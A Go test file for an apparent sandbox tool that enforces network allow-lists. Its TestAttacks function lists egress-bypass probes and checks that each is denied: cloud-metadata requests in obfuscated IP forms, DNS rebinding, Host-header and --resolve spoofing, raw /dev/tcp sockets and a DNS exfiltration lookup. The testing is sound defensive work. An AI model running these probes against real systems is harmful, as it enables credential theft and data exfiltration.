package network

import (
	"slices"
	"strings"
	"testing"
	"time"

	"hutch"
	"hutch/internal/hutchtest"
)

func each(t *testing.T, test func(t *testing.T, runtime string)) {
	t.Parallel()
	for _, runtime := range hutchtest.Runtimes {
		t.Run(runtime, func(t *testing.T) {
			t.Parallel()
			test(t, runtime)
		})
	}
}

// Ordinary programs reach what is allowed.
func TestClients(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		w := newWorld(t)
		s := w.sandbox(t, w.engine(t, runtime), hutch.Network{Allow: hutch.Rules(allowed)})
		for command, want := range map[string]string{
			"curl -sS http://api.example.com/":                                                                                                         "hello from api.example.com",
			"curl -sS --cacert ca.pem https://api.example.com/":                                                                                        "hello from api.example.com",
			"curl -sS -6 --http1.1 --cacert ca.pem https://api.example.com/":                                                                           "hello from api.example.com",
			"curl -sS http://api.example.com/bytes | wc -c":                                                                                            "8388608",
			"curl -sS --cacert ca.pem https://api.example.com/bytes | wc -c":                                                                           "8388608",
			"head -c 3000000 /dev/zero | curl -sS --data-binary @- http://api.example.com/":                                                            "hello from api.example.com",
			"git -c http.sslCAInfo=$PWD/ca.pem clone -q https://api.example.com/repo.git r && ls -d r/.git":                                            "r/.git",
			"SSL_CERT_FILE=ca.pem python3 -c 'import urllib.request as u; print(u.urlopen(\"https://api.example.com/\").read().decode())'":             "hello from api.example.com",
			"NODE_EXTRA_CA_CERTS=ca.pem node -e 'fetch(\"https://api.example.com/\").then(r => r.text()).then(console.log)'":                           "hello from api.example.com",
			"python3 -m pip download --no-cache-dir --disable-pip-version-check --cert ca.pem --index-url https://api.example.com/simple/ hello-hutch": "Successfully downloaded hello-hutch",
			"npm view --cafile=ca.pem --registry https://api.example.com/ hello version":                                                               "1.0.0",
		} {
			if out, code := s.run(t, command); !strings.Contains(out, want) {
				t.Errorf("%s exits with %d: %s", command, code, out)
			}
		}
	})
}

// A connection that is not allowed fails quickly, whatever the name of its host.
func TestAttacks(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		w := newWorld(t)
		s := w.sandbox(t, w.engine(t, runtime), hutch.Network{Allow: hutch.Rules(allowed, "rebind.example.com")})
		s.run(t, "curl -sS http://api.example.com/") // from now on the sandbox knows its address
		const curl = "curl -sS -k -m 10 -o /dev/null -w '%{http_code}' "
		for command, want := range map[string]string{
			curl + "http://evil.example.net/":                                                    "Could not resolve",
			curl + "https://203.0.113.66/":                                                       "000",
			curl + "https://203.0.113.10/":                                                       "000",
			curl + "http://169.254.169.254/latest/meta-data/":                                    "000",
			curl + "http://2852039166/":                                                          "000",
			curl + "http://0xa9fea9fe/":                                                          "000",
			curl + "'http://[::ffff:169.254.169.254]/'":                                          "000",
			curl + "'http://[fd00:ec2::254]/'":                                                   "000",
			curl + "http://rebind.example.com/":                                                  "Could not resolve",
			curl + "http://192.0.0.1/":                                                           "000",
			curl + "http://10.0.0.1/":                                                            "000",
			curl + "https://8.8.8.8/dns-query":                                                   "000",
			curl + "--resolve evil.example.net:443:203.0.113.10 https://evil.example.net/":       "000",
			curl + "--resolve api.example.com:443:203.0.113.66 https://api.example.com/":         "000",
			curl + "-H 'Host: evil.example.net' http://api.example.com/":                         "403",
			curl + "--http2-prior-knowledge http://api.example.com/":                             "000",
			curl + "-L http://api.example.com/redirect":                                          "Could not resolve",
			curl + "http://api.example.com:8080/":                                                "000",
			"timeout 5 bash -c 'exec 3<>/dev/tcp/8.8.8.8/53'":                                    "refused",
			"timeout 5 bash -c 'exec 3<>/dev/udp/8.8.8.8/53; echo x >&3; sleep 0.2; echo x >&3'": "refused",
			"getent ahosts c2VjcmV0.evil.example.net || echo none":                               "none",
		} {
			start := time.Now()
			out, code := s.run(t, command)
			if !strings.Contains(out, want) || strings.Contains(out, "timed out") {
				t.Errorf("%s exits with %d: %s; want %s", command, code, out, want)
			}
			if took := time.Since(start); took > 8*time.Second {
				t.Errorf("%s took %v to be denied", command, took)
			}
		}
		w.mu.Lock()
		defer w.mu.Unlock()
		for name := range w.asked {
			if name != allowed && name != "rebind.example.com" {
				t.Errorf("the world was asked for %s", name)
			}
		}
		log := s.log(t)
		if !slices.ContainsFunc(log, func(c hutch.Connection) bool {
			return c.Verdict == hutch.Refused && c.Protocol == "dns" && c.Host == evil && strings.Contains(c.Reason, "hutch network "+s.id+" --allow "+evil)
		}) {
			t.Errorf("the log does not say how to allow %s: %+v", evil, log)
		}
	})
}

// A result lists what was denied while its command ran, and nothing earlier.
func TestDeniedAreInTheResult(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		w := newWorld(t)
		s := w.sandbox(t, w.engine(t, runtime), hutch.Network{})
		for command, want := range map[string]string{
			"curl -sS -m 10 http://" + evil + "/": evil,
			"true":                                "",
		} {
			res, err := s.engine.Exec(t.Context(), s.id, hutch.ExecRequest{Command: command, Timeout: 60}, nil)
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(res.Denied, " "); got != want {
				t.Errorf("%s: denied %q, want %q", command, got, want)
			}
		}
		p, err := s.engine.StartProcess(t.Context(), s.id, hutch.ProcessRequest{Command: "curl -sS -m 10 http://" + evil + "/"})
		if err != nil {
			t.Fatal(err)
		}
		waited, err := s.engine.Wait(t.Context(), s.id, p.ID, hutch.WaitRequest{Timeout: 60})
		if err != nil || !waited.Met || strings.Join(waited.Denied, " ") != evil {
			t.Errorf("a process: %+v, %v", waited, err)
		}
	})
}

// Rules can change while programs run: what is allowed works at once, and what is no longer allowed is cut.
func TestRulesChange(t *testing.T) {
	each(t, func(t *testing.T, runtime string) {
		w := newWorld(t)
		s := w.sandbox(t, w.engine(t, runtime), hutch.Network{})
		const get = "curl -sS -m 10 http://api.example.com/"
		if out, code := s.run(t, get); code != 6 {
			t.Fatalf("before it is allowed: %d %s", code, out)
		}
		set := func(n hutch.Network) {
			t.Helper()
			if _, err := s.engine.SetNetwork(t.Context(), s.id, n); err != nil {
				t.Fatal(err)
			}
		}
		set(hutch.Network{Allow: hutch.Rules("*.example.com")})
		if out, code := s.run(t, get); code != 0 {
			t.Fatalf("when it is allowed: %d %s", code, out)
		}
		if _, err := s.engine.StartProcess(t.Context(), s.id, hutch.ProcessRequest{Name: "stream", Command: "curl -sSN http://api.example.com/stream >stream; echo $? >ended"}); err != nil {
			t.Fatal(err)
		}
		if out, code := s.run(t, "for i in {1..300}; do test -s stream && break; sleep 0.05; done; test -s stream"); code != 0 {
			t.Fatalf("the stream does not begin: %s", out)
		}
		set(hutch.Network{Mode: hutch.NetworkNone})
		if out, _ := s.run(t, "for i in {1..200}; do test -s ended && break; sleep 0.05; done; cat ended"); strings.TrimSpace(out) == "0" || out == "" {
			t.Errorf("the stream ended with %q", out)
		}
		if out, code := s.run(t, get); code == 0 {
			t.Errorf("when nothing is allowed: %s", out)
		}
		set(hutch.Network{Mode: hutch.NetworkOpen})
		if out, code := s.run(t, "curl -sS -m 10 http://evil.example.net/; curl -sS -m 10 http://203.0.113.10/"); code != 0 {
			t.Errorf("when it is open: %d %s", code, out)
		}
		if out, code := s.run(t, "curl -sS -m 10 http://169.254.169.254/ || curl -sS -m 10 http://10.0.0.1/"); code == 0 {
			t.Errorf("when it is open, metadata: %s", out)
		}
	})
}

// TestRootless runs all of this as an ordinary user.
func TestRootless(t *testing.T) {
	hutchtest.OpenTun(t)
	hutchtest.Rootless(t, hutchtest.Pattern("Test(Attacks|Brokered)$", "Test(Clients|Attacks|RulesChange|Brokered|NotAsked|LinkedSandboxes)$"))
}
